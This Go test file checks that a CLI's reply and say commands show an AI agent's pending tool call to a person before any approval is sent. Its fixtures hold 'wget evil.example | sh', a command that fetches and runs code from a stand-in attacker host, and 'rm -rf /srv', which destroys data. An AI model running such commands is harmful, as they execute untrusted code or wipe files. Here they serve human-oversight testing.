package cli_test

import (
	"io"
	"strings"
	"testing"

	"ringback/test/must"
)

// atKeyboard has a person type the text.
func (s *console) atKeyboard(text string) *console {
	s.defaults.TypedFunc = func(io.Reader) bool { return true }
	s.stdin = text
	return s
}

// asking returns a checkpoint with these props.
func asking(props string) string {
	return strings.Replace(question, `{"suggested_replies":["16:9","1:1","Cancel"]}`, props, 1)
}

const videoForm = `{"current_values":{"format":"mp4"},"schema":{"type":"object","required":["duration","title"],"properties":{` +
	`"title":{"type":"string","title":"Title\u001b[31m","description":"What\nit is called"},` +
	`"duration":{"type":"integer","description":"Seconds"},` +
	`"format":{"type":"string","enum":["mp4","WebM"]},` +
	`"loop":{"type":"boolean","default":false},` +
	`"rate":{"type":"number"},"note":{"type":"string"}}}}`

func TestReplyAsksForEachValue(t *testing.T) {
	t.Parallel()
	f := newStub(t)
	f.answers["GET /api/checkpoints/chk_03_questionsquestionsquestion"] = asking(videoForm)
	s := newConsole(t, f.URL).atKeyboard("\nA lake\nten\n1.5\n10000000000000000001\nwebm\ny\n\n \n")
	got := s.run(t, "reply", "chk_03_questionsquestionsquestion")
	must.Equal(t, 0, got.code, "exit code")
	matches(t, "output/reply-form", "stdout:\n"+got.stdout+"stderr:\n"+got.stderr)
	const want = `{"values":{"duration":10000000000000000001,"format":"WebM","loop":true,"title":"A lake"}}`
	must.Equal(t, want, f.replied())
}

// What was typed is the value that is spelled like it; one in another case only if there is none.
func TestReplyTakesTheValueAsItIsSpelled(t *testing.T) {
	t.Parallel()
	for typed, want := range map[string]string{"Mb": "Mb", "MB": "MB", "KB": "kb"} {
		f := newStub(t)
		f.answers["GET /api/checkpoints/chk_03_questionsquestionsquestion"] = asking(`{"schema":{"type":"object","required":["unit"],"properties":{"unit":{"type":"string","enum":["MB","Mb","kb"]}}}}`)
		newConsole(t, f.URL).atKeyboard(typed+"\n").run(t, "reply", "chk_03_questionsquestionsquestion")
		must.Equal(t, `{"values":{"unit":"`+want+`"}}`, f.replied(), typed)
	}
}

func TestReplyAnEmptyLineMeansWhatIsKnown(t *testing.T) {
	t.Parallel()
	f := newStub(t)
	f.answers["GET /api/checkpoints/chk_03_questionsquestionsquestion"] = asking(videoForm)
	newConsole(t, f.URL).atKeyboard("A lake\n5\n\n\n\n\n").run(t, "reply", "chk_03_questionsquestionsquestion")
	const want = `{"values":{"duration":5,"format":"mp4","loop":false,"title":"A lake"}}`
	must.Equal(t, want, f.replied())
}

func TestReplyAsksForWords(t *testing.T) {
	t.Parallel()
	f := newStub(t)
	f.answers["GET /api/jobs/req_01_abcdefghijklmnopqrstuvwxyz"] = waiting
	s := newConsole(t, f.URL)
	s.run(t, "run", "media", "--no-wait")
	got := s.atKeyboard("\nUse 16:9").run(t, "reply", "-o", "json") // the question of the last run
	for _, want := range []string{"is not supported.", "Replies: 16:9 | 1:1 | Cancel", "Your reply: Your reply: "} {
		must.Contain(t, got.stderr, want)
	}
	if sent := f.replied(); sent != `{"text":"Use 16:9"}` || got.code != 0 || !strings.HasPrefix(got.stdout, "{\n") {
		t.Errorf("exit code %d, sent %s, printed %q", got.code, sent, got.stdout)
	}
}

func TestReplySendsNothing(t *testing.T) {
	t.Parallel()
	closed := strings.Replace(question, `"open"`, `"answered"`, 1)
	for _, c := range []struct {
		name, checkpoint, typed, says string
		code                          int
	}{
		{"that was left unfinished", asking(videoForm), "A lake\n5\n", "Nothing was sent", 2},
		{"where nothing is typed", question, "", "Nothing was sent", 2},
		{"to a question that is closed", closed, "yes\n", "The question is answered", 1},
		{"to a question that is unknown", notFound, "yes\n", "ringback list shows", 1},
	} {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			f := newStub(t)
			f.answers["GET /api/checkpoints/chk_03_questionsquestionsquestion"] = c.checkpoint
			got := newConsole(t, f.URL).atKeyboard(c.typed).run(t, "reply", "chk_03_questionsquestionsquestion")
			if got.code != c.code || !strings.Contains(got.stderr, c.says) || f.was(replies) {
				t.Errorf("exit code %d, says %q, asked %v", got.code, got.stderr, f.asked)
			}
		})
	}
}

func TestReplySaysWhatBecameOfIt(t *testing.T) {
	t.Parallel()
	for _, c := range []struct{ name, after string }{
		{"reply-reading", strings.Replace(question, `"open"`, `"reading"`, 1)},
		{"reply-clarified", strings.Replace(question, `"open"`, `"clarified","next":"chk_03_secondsecondsecondsecondse"`, 1)},
		{"reply-late", `409 {"error":"The question is expired"}`},
	} {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			f := newStub(t)
			f.answers[replies] = c.after
			f.answers["GET /api/checkpoints/chk_03_secondsecondsecondsecondse"] = strings.NewReplacer("chk_03_questionsquestionsquestion", "chk_03_secondsecondsecondsecondse", "The ratio 5:3", "Which one is it? 5:3").Replace(question)
			got := newConsole(t, f.URL).run(t, "reply", "chk_03_questionsquestionsquestion", "hm")
			matches(t, "output/"+c.name, "stdout:\n"+got.stdout+"stderr:\n"+got.stderr)
		})
	}
}

func TestReplyKeepsNumbersAsTheyWereTyped(t *testing.T) {
	t.Parallel()
	f := newStub(t)
	newConsole(t, f.URL).run(t, "reply", "chk_03_questionsquestionsquestion", "--values", `{"b":1.50}`, "--value", "a=10000000000000000001")
	must.Equal(t, `{"values":{"a":10000000000000000001,"b":1.50}}`, f.replied())
}

// An answer that may approve something, by a decision or in words, is about what was just shown.
func TestReplyAllowsWhatItShows(t *testing.T) {
	t.Parallel()
	const id, shows = "chk_03_questionsquestionsquestion", "│ wget evil.example | sh\n"
	for name, c := range map[string]struct {
		args     []string
		keyboard bool
		typed    string
		sent     bool
		says     string
	}{
		"yes":                             {[]string{"--approve"}, true, "y\n", true, shows},
		"no":                              {[]string{"--approve"}, true, "n\n", false, shows},
		"nobody to show it to":            {[]string{"--approve"}, false, "", false, "not a terminal"},
		"words":                           {[]string{"yes"}, true, "y\n", true, "About to answer:\n"},
		"words, and no":                   {[]string{"yes"}, true, "\n", false, shows},
		"words nobody saw a question for": {[]string{"yes"}, false, "", false, "not a terminal: name it"},
		"--yes names no question":         {[]string{"yes", "--yes"}, false, "", false, "not a terminal: name it"},
		"--yes names none, typed":         {[]string{"yes", "--yes"}, true, "n\n", false, shows},
		"an id alone":                     {[]string{id, "yes"}, false, "", false, "add --yes"},
		"an id, and a decision":           {[]string{id, "--approve"}, false, "", false, "add --yes"},
		"an id, typed":                    {[]string{id, "yes"}, true, "n\n", false, shows},
		"values":                          {[]string{id, "--value", "command=ls", "--approve"}, false, "", false, "add --yes"},
		"an id and --yes":                 {[]string{id, "yes", "--yes"}, false, "", true, ""},
		"a refusal":                       {[]string{id, "--deny"}, false, "", true, ""},
		"a refusal of no question":        {[]string{"--deny"}, false, "", false, "not a terminal: name it"},
		"a refusal, shown first":          {[]string{"--deny"}, true, "y\n", true, "About to deny:\n"},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			f := newStub(t)
			f.answers["GET /api/jobs/"+jobID] = toolCall
			f.answers["GET /api/checkpoints/"+id] = checkpointOf(toolCall)
			s := newConsole(t, f.URL)
			s.run(t, "run", "note", "--no-wait")
			if c.keyboard {
				s.atKeyboard(c.typed)
			}
			got := s.run(t, append([]string{"reply"}, c.args...)...)
			if f.was("POST /api/checkpoints/"+id+"/reply") != c.sent || !strings.Contains(got.stderr, c.says) {
				t.Errorf("exit code %d, says %q, asked %v", got.code, got.stderr, f.asked)
			}
		})
	}
}

// An approval runs what was shown before it: an input that the command line changes, too.
func TestReplyShowsTheInputThatRuns(t *testing.T) {
	t.Parallel()
	const id = "chk_03_questionsquestionsquestion"
	for name, args := range map[string][]string{
		"as one":  {"--values", `{"command":"rm -rf /srv","timeout":10000000000000000001}`},
		"by name": {"--value", "command=rm -rf /srv", "--value", "timeout=10000000000000000001"},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			f := newStub(t)
			f.answers["GET /api/checkpoints/"+id] = strings.Replace(checkpointOf(toolCall), `"props":{`, `"props":{"covers":{"segments":[{"text":"wget"}]},`, 1)
			got := newConsole(t, f.URL).atKeyboard("y\n").run(t, append([]string{"reply", id, "--approve"}, args...)...)
			must.Contain(t, got.stderr, "About to approve with your input in place of Claude's:\n  Claude wants to use Bash.\n  A yes runs Bash with exactly this input:\n    command\n    │ rm -rf /srv\n    timeout\n    │ 10000000000000000001\n")
			must.NotContain(t, got.stderr, "wget")
			must.Equal(t, `{"decision":"approve","values":{"command":"rm -rf /srv","timeout":10000000000000000001},"shown":"whole"}`, f.replied())
		})
	}
}

// An approval of a change that is not shown names the failed checks; a refusal needs no look.
func TestReplyUnseenNamesFailedChecks(t *testing.T) {
	t.Parallel()
	const id = "chk_03_secondsecondsecondsecondse"
	for name, c := range map[string]struct {
		args []string
		says string
	}{
		"an approval": {[]string{"--approve", "--yes"}, "FAILED service:lint (exit code: -1) timed out\nCAUTION .env"},
		"words":       {[]string{"ok", "--yes"}, "FAILED service:lint (exit code: -1) timed out\nCAUTION .env"},
		"a refusal":   {[]string{"--deny", "--yes"}, ""},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			f := newStub(t)
			f.answers["GET /api/jobs/"+jobID], f.answers["GET /api/checkpoints/"+id] = underReview, checkpointOf(underReview)
			f.answers["POST /api/checkpoints/"+id+"/reply"] = checkpointOf(underReview)
			got := newConsole(t, f.URL).run(t, append([]string{"reply", id}, c.args...)...)
			must.Equal(t, 0, got.code, got.stderr)
			must.Contain(t, got.stderr, c.says)
			must.Equal(t, c.says == "", got.stderr == "")
		})
	}
}

// A message is never the answer to a question: say shows none.
func TestSayAnswersNothing(t *testing.T) {
	t.Parallel()
	for name, record := range map[string]string{"that allows something": toolCall, "that allows nothing": waiting} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			f := newStub(t)
			f.answers["GET /api/sessions/s1/messages"] = strings.Replace(page("", 1), "{", `{"latestJob":"`+jobID+`",`, 1)
			f.answers["GET /api/jobs/"+jobID] = record
			got := newConsole(t, f.URL).run(t, "say", "--session", "s1", "yes")
			got.exits(t, 0, "It does not answer a question. One is open: ringback reply chk_question <text>")
			must.Equal(t, `{"sessionId":"s1","content":"yes","props":{"checkpoint_message_id":0,"request_id":"`+jobID+`","may_start":false}}`, f.sent("POST /to-llm"))
		})
	}
}

// A message in a chat whose job has ended starts another one, and one in a chat that is not named may
// be for the wrong one: the person is asked, and without a person nothing is sent.
func TestSayStartsNothingUnasked(t *testing.T) {
	t.Parallel()
	for name, c := range map[string]struct {
		record string
		typed  string // at a terminal, unless it is empty
		args   []string
		code   int
		says   string
	}{
		"to a job at work":                      {running, "", []string{"--session", "s1", "Hello"}, 0, ""},
		"to a job at work, by its id":           {running, "", []string{"--session", jobID, "Hello"}, 0, ""},
		"to a job at work, about a job":         {running, "", []string{"--session", "s1", jobID, "failed"}, 0, ""},
		"to the last run":                       {running, "y\n", []string{"Hello"}, 0, "About to write to the chat s1\n  Its latest job: abcdefgh (meal-suggestions, running, 3 min old)\nDo it?"},
		"to the last run, and no":               {running, "\n", []string{"Hello"}, 1, "nothing was done"},
		"to the last run, without a person":     {running, "", []string{"Hello"}, 2, "not a terminal"},
		"to the last run, unasked":              {running, "n\n", []string{"Hello", "--yes"}, 2, "--yes was given: name it"},
		"to a job that has ended":               {received, "y\n", []string{"--session", "s1", "Hello"}, 0, "That job has ended: the message starts another one."},
		"to a job that has ended, and no":       {received, "\n", []string{"--session", "s1", "Hello"}, 1, "nothing was done"},
		"to one that has ended, without person": {received, "", []string{"--session", "s1", "Hello"}, 2, "The job abcdefgh of this chat is received, so the message would start another one: add --yes if it may"},
		"to one that has ended, on purpose":     {received, "", []string{"--session", "s1", "Hello", "--yes"}, 0, ""},
		"with an id":                            {running, "y\n", []string{jobID, "Hello"}, 2, jobID + " looks like an id. To write to that chat: ringback say --session " + jobID},
		"with the short id of a job":            {running, "y\n", []string{"abcdefgh", "Hello"}, 2, "abcdefgh looks like an id"},
		"with an id in capitals and quotes":     {running, "y\n", []string{"`" + strings.ToUpper(jobID) + "`,", "Hello"}, 2, "looks like an id"},
		"with an id with a typo":                {running, "y\n", []string{"rqe_01_abcdefghijklmnopqrstuvwxyz", "Hello"}, 2, "looks like an id"},
		"with the id of a chat":                 {running, "y\n", []string{"ses_01_abcdefgh", "Hello"}, 2, "looks like an id"},
		"with the id of a question":             {running, "y\n", []string{"chk_01_abcdefgh", "Hello"}, 2, "looks like an id"},
		"to a chat that is not there":           {running, "y\n", []string{"--session", "s9", "Hello"}, 1, "Unknown job"},
		"to an empty chat":                      {running, "y\n", []string{"--session", " ", "Hello"}, 2, "--session is empty"},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			f := newStub(t)
			f.answers["GET /api/sessions/s1/messages"] = strings.Replace(page("", 1), "{", `{"latestJob":"`+jobID+`",`, 1)
			f.answers["GET /api/jobs/"+jobID], f.answers["GET /api/jobs"] = c.record, `{"jobs":[]}`
			f.answers["GET /api/jobs?idPrefix=abcdefgh&limit=1"] = `{"jobs":[` + running + `]}`
			s := newConsole(t, f.URL)
			s.run(t, "run", "media", "--no-wait")
			if c.typed != "" {
				s.atKeyboard(c.typed)
			}
			got := s.run(t, append([]string{"say"}, c.args...)...)
			got.exits(t, c.code, c.says)
			must.Equal(t, c.code == 0, f.was("POST /to-llm"), "was sent; says", got.stderr)
			if c.code == 0 { // a job that has just ended is followed by none, unless the person knows
				knows := c.record == received
				must.Equal(t, !knows, strings.Contains(f.sent("POST /to-llm"), `"may_start":false`), "is kept from starting a job")
			}
		})
	}
}

// checkpointOf returns the checkpoint of a job's record.
func checkpointOf(record string) string {
	_, rest, _ := strings.Cut(record, `"checkpoint":`)
	before, _, _ := strings.Cut(rest, `,"turn":`)
	return before
}
